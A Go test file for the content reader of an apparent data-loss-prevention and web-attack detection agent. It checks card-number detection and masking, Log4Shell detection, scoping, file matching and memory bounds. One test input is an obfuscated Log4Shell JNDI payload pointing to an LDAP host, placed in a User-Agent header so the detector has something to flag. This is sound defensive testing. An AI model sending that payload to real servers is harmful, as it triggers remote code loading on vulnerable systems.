// SPDX-License-Identifier: Apache-2.0

package content

import (
	"fmt"
	"strings"
	"testing"

	"github.com/holdfast-project/holdfast/agent/dlp"
	"github.com/holdfast-project/holdfast/agent/inspect"
	"github.com/holdfast-project/holdfast/agent/wire"
	detectors "github.com/holdfast-project/holdfast/rules/dlp"
	"github.com/holdfast-project/holdfast/rules/waf"
)

// rig is a reader of which all containers are asked for everything, and what it found.
type rig struct {
	*Reader
	found []Found
	at    map[wire.ContentFlag]uint32
}

func newRig(t testing.TB) *rig {
	t.Helper()
	set, err := detectors.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	matcher, err := set.Compile(detectors.CompileConfig{})
	if err != nil {
		t.Fatal(err)
	}
	filter, err := waf.Compile(waf.Config{})
	if err != nil {
		t.Fatal(err)
	}
	r := &rig{at: map[wire.ContentFlag]uint32{}}
	r.Reader, err = New(Config{
		Matcher: matcher, Filter: filter, Modes: func(cgroup uint64) (bool, bool) { return cgroup == 7, cgroup == 7 },
		Found: func(f Found) { r.found = append(r.found, f) },
	})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// piece is one of a connection from process 20 of container 7.
func piece(flags wire.ContentFlag) wire.Content {
	c := wire.Content{
		Cookie: 5, LocalPort: 40000, RemotePort: 80, Family: 2, Protocol: inspect.ProtocolTCP, ContentFlags: uint16(flags), Sequence: 1,
	}
	c.Head.Tgid, c.Head.Start, c.Head.Origin, c.Head.Time = 20, 2000, 7, 1e9
	copy(c.Remote[:], []byte{203, 0, 113, 9})
	return c
}

// send gives a text in pieces of a size.
func (r *rig) send(c wire.Content, text string, size int) {
	for len(text) > 0 {
		n := min(size, len(text))
		c.Length = uint16(n)
		r.Content(&c, []byte(text[:n]))
		c.Sequence += uint32(n)
		text = text[n:]
	}
}

func post(body string) string {
	return fmt.Sprintf("POST /orders?a=1 HTTP/1.1\r\nHost: paste.example\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
}

const cards = "card 4532120007001006 4532120007001378 4532120007001741 4532120007002111 4532120007002483"

func TestSensitiveValuesAreFound(t *testing.T) {
	for _, size := range []int{1, 7, 4096} {
		r := newRig(t)
		r.send(piece(wire.ContentOut), post(cards), size)
		if len(r.found) != 1 {
			t.Fatalf("pieces of %d bytes: %d findings", size, len(r.found))
		}
		f := r.found[0]
		if f.Reason != dlp.Content || f.Class != "card" || f.Distinct != 5 || f.Host != "paste.example" || f.Method != "POST" || f.Path != "/orders" ||
			f.Process != (dlp.Process{PID: 20, Start: 2000}) || f.Peer.Addr.String() != "203.0.113.9:80" || f.Piece.Head.Origin != 7 {
			t.Errorf("pieces of %d bytes: %+v", size, f)
		}
		for _, masked := range f.Masked {
			if strings.Contains(cards, masked) {
				t.Errorf("%q is not masked", masked)
			}
		}
	}
}

// TestTLSObjectsAreUsedAgain has a library use the memory of one connection for another: what was open of the first is not
// taken for the begin of the second.
func TestTLSObjectsAreUsedAgain(t *testing.T) {
	r := newRig(t)
	c := piece(wire.ContentOut)
	c.Tls, c.Cookie, c.Sequence, c.Via = 0x1000, 0, 0, uint8(wire.ViaOpenssl)
	open := post(cards)
	r.send(c, open[:len(open)-len(cards)], 4096)
	r.send(c, post(cards), 4096)
	if len(r.found) != 1 || r.found[0].Piece.Via != uint8(wire.ViaOpenssl) {
		t.Errorf("%d findings: %+v", len(r.found), r.found)
	}
}

func TestAttacksAreFound(t *testing.T) {
	r := newRig(t)
	request := "GET /search?q=tea HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${${lower:j}ndi:ldap://203.0.113.66/a}\r\n\r\n"
	r.send(piece(wire.ContentInbound), request, 4096)
	if len(r.found) != 1 || r.found[0].Reason != dlp.Attack || r.found[0].Class != "log4shell" || !strings.EqualFold(r.found[0].Name, "user-agent") {
		t.Errorf("%d findings: %+v", len(r.found), r.found)
	}
	// The answers of those whom the container asks are not requests.
	r = newRig(t)
	r.send(piece(0), request, 4096)
	if len(r.found) != 0 {
		t.Errorf("an answer is an attack: %+v", r.found)
	}
}

// TestOnlyWhatIsAskedFor has pieces of a container that nobody asks for, and credentials where they belong.
func TestOnlyWhatIsAskedFor(t *testing.T) {
	r := newRig(t)
	c := piece(wire.ContentOut)
	c.Head.Origin = 8
	r.send(c, post(cards), 4096)
	c = piece(wire.ContentOut)
	c.Cookie = 6
	r.send(c, "GET / HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer ghp_"+strings.Repeat("a1B2", 9)+"\r\n\r\n", 4096)
	if len(r.found) != 0 {
		t.Errorf("%+v", r.found)
	}
}

// TestLabelledFilesAreFound has a file be read, and sent by somebody: it is found again, also packed up in a document.
func TestLabelledFilesAreFound(t *testing.T) {
	var file strings.Builder
	for n := range 200 {
		fmt.Fprintf(&file, "%d;customer %x;street %d\n", n, n*7919, n*31)
	}
	r := newRig(t)
	if !r.File(dlp.Read{File: "/data/customers.csv", Label: "customers"}, []byte(file.String())) {
		t.Fatal("the file is not taken")
	}
	r.send(piece(wire.ContentOut), post("kept apart "+file.String()[100:4000]), 999)
	if len(r.found) != 1 || r.found[0].Reason != dlp.FileMatch || r.found[0].File != "/data/customers.csv" || r.found[0].Label != "customers" {
		t.Errorf("%d findings: %+v", len(r.found), r.found)
	}
	for range 2 * maxFiles {
		r.File(dlp.Read{}, nil)
	}
	if r.File(dlp.Read{}, nil) {
		t.Error("files wait without a bound")
	}
}

// TestForgottenConnections has more connections than are remembered: the oldest make room, and none is taken for another.
func TestForgottenConnections(t *testing.T) {
	r := newRig(t)
	c := piece(wire.ContentOut)
	for n := range uint64(maxPeople + 100) {
		c.Cookie = 1000 + n
		r.Content(&c, []byte("x"))
	}
	if got := len(r.people.byKey); got != maxPeople || len(r.people.places) != maxPeople {
		t.Errorf("%d connections are remembered in %d places", got, len(r.people.places))
	}
	if r.people.of(0) != nil {
		t.Error("a tag of before names somebody")
	}
}

func FuzzReader(f *testing.F) {
	f.Add([]byte(post(cards)), uint16(wire.ContentOut), uint64(0), uint32(0))
	f.Add([]byte("GET / HTTP/1.1\r\n\r\n"), uint16(wire.ContentInbound), uint64(1), uint32(9))
	f.Add([]byte("POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 60\r\n\r\n--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--x--\r\n"), uint16(wire.ContentInbound), uint64(1), uint32(0))
	r := newRig(f)
	var largest int
	r.requests.cfg = RequestsConfig{Wanted: func(uint64) bool { return true }, Take: func(q *Request) { largest = max(largest, q.Size) }}
	f.Fuzz(func(t *testing.T, data []byte, flags uint16, tls uint64, skipped uint32) {
		c := piece(wire.ContentFlag(flags))
		c.Tls, c.Skipped = tls, skipped
		r.Content(&c, data[:min(len(data), 4096)])
		r.Settle(int64(c.Head.Time))
		if s := r.Stats(); s.Memory > 64<<20 || r.failures > 0 || largest > maxRequestBytes || len(r.requests.open) > maxRequests {
			t.Errorf("%d bytes of memory, %d failures, %d bytes of a request, %d requests", s.Memory, r.failures, largest, len(r.requests.open))
		}
	})
}
